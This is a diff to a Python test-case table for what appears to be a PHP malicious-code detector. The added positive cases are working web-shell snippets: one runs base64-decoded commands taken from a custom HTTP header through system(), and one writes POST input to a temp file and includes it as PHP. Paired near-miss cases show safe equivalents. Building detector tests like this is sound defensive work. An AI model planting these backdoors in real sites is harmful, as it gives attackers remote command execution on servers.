@@ -379,6 +379,42 @@ CASES: list[tuple[str, bytes, bool]] = [
         True,
     ),  # blind b09 embedded
     (
+        "SPAMGEAR_EVASION_CustomHeaderToSinkNear",
+        plain("<?php\n$p = getenv('HTTP_X_P');\nif ($p) { system(base64_decode($p)); exit; }\n?>"),
+        True,
+    ),  # blind c14 plain
+    (
+        "SPAMGEAR_EVASION_CustomHeaderToSinkNear",
+        padded("<?php\n$p = getenv('HTTP_X_P');\nif ($p) { system(base64_decode($p)); exit; }\n?>"),
+        True,
+    ),  # blind c14 padded
+    (
+        "SPAMGEAR_EVASION_CustomHeaderToSinkNear",
+        embedded("<?php\n$p = getenv('HTTP_X_P');\nif ($p) { system(base64_decode($p)); exit; }\n?>"),
+        True,
+    ),  # blind c14 embedded
+    (
+        "SPAMGEAR_INPUT_InputWrittenAsPhpThenIncluded",
+        plain(
+            "<?php\n$s = $_POST['s'];\n$t = tmpfile();\nfwrite($t, \"<?php \" . $s);\n$meta = stream_get_meta_data($t);\ninclude $meta['uri'];\n?>"
+        ),
+        True,
+    ),  # blind c15 plain
+    (
+        "SPAMGEAR_INPUT_InputWrittenAsPhpThenIncluded",
+        padded(
+            "<?php\n$s = $_POST['s'];\n$t = tmpfile();\nfwrite($t, \"<?php \" . $s);\n$meta = stream_get_meta_data($t);\ninclude $meta['uri'];\n?>"
+        ),
+        True,
+    ),  # blind c15 padded
+    (
+        "SPAMGEAR_INPUT_InputWrittenAsPhpThenIncluded",
+        embedded(
+            "<?php\n$s = $_POST['s'];\n$t = tmpfile();\nfwrite($t, \"<?php \" . $s);\n$meta = stream_get_meta_data($t);\ninclude $meta['uri'];\n?>"
+        ),
+        True,
+    ),  # blind c15 embedded
+    (
         "SPAMGEAR_INPUT_ShellOfInput",
         plain(
             "<?php\n$n = (int) $_GET['n'];\nexec('convert -resize ' . escapeshellarg((string) $n) . ' in.png out.png');\n"
@@ -647,6 +683,44 @@ CASES: list[tuple[str, bytes, bool]] = [
         "SPAMGEAR_MAILER_RelayAllArgsFromInput",
         embedded(
             "<?php\n$n = (int) $_GET['n'];\nfor ($i = 0; $i < $n; $i++) { echo row($i); }\nmail('admin@example.com', 'report', 'rows: ' . $n);\n"
+        ),
+        False,
+    ),  # near miss
+    (
+        "SPAMGEAR_EVASION_CustomHeaderToSinkNear",
+        plain(
+            "<?php\n$ip = $_SERVER['HTTP_X_FORWARDED_FOR'] ?? $_SERVER['REMOTE_ADDR'];\n$cmd = 'logger -t app ' . escapeshellarg($ip);\nsystem($cmd);\n"
+        ),
+        False,
+    ),  # near miss
+    (
+        "SPAMGEAR_EVASION_CustomHeaderToSinkNear",
+        embedded(
+            "<?php\n$ip = $_SERVER['HTTP_X_FORWARDED_FOR'] ?? $_SERVER['REMOTE_ADDR'];\n$cmd = 'logger -t app ' . escapeshellarg($ip);\nsystem($cmd);\n"
+        ),
+        False,
+    ),  # near miss
+    (
+        "SPAMGEAR_EVASION_CustomHeaderToSinkNear",
+        plain("<?php\n$rid = getenv('HTTP_X_REQUEST_ID');\n$log->info('request', ['id' => $rid]);\n"),
+        False,
+    ),  # near miss
+    (
+        "SPAMGEAR_EVASION_CustomHeaderToSinkNear",
+        embedded("<?php\n$rid = getenv('HTTP_X_REQUEST_ID');\n$log->info('request', ['id' => $rid]);\n"),
+        False,
+    ),  # near miss
+    (
+        "SPAMGEAR_INPUT_InputWrittenAsPhpThenIncluded",
+        plain(
+            "<?php\n$cfg = ['title' => trim($_POST['title'] ?? '')];\n$php = var_export($cfg, true);\nfile_put_contents($file, '<?php return ' . var_export($cfg, true) . ';');\n$loaded = include $file;\n"
+        ),
+        False,
+    ),  # near miss
+    (
+        "SPAMGEAR_INPUT_InputWrittenAsPhpThenIncluded",
+        embedded(
+            "<?php\n$cfg = ['title' => trim($_POST['title'] ?? '')];\n$php = var_export($cfg, true);\nfile_put_contents($file, '<?php return ' . var_export($cfg, true) . ';');\n$loaded = include $file;\n"
         ),
         False,
     ),  # near miss
